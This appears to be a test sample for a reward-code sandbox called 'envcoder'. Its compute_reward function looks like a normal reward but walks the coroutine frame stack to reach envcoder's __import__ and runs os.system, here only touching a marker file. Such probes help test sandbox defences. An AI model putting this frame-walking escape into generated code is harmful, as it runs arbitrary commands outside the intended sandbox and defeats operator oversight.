"""The same walk through a coroutine's frame, inside the shaping function (at trace time)."""
import jax.numpy as jnp


async def _co():
    return 0


def compute_reward(state):
    c = _co()
    f = c.cr_frame
    while f is not None:
        b = f.f_globals.get("__builtins__")
        if isinstance(b, dict) and "__import__" in b and f.f_globals.get("__name__", "").startswith("envcoder"):
            b["__import__"]("os").system("touch /tmp/envcoder_attack_marker_coroutine")
            break
        f = f.f_back
    return jnp.cos(state["dof_pos"][:, 1])
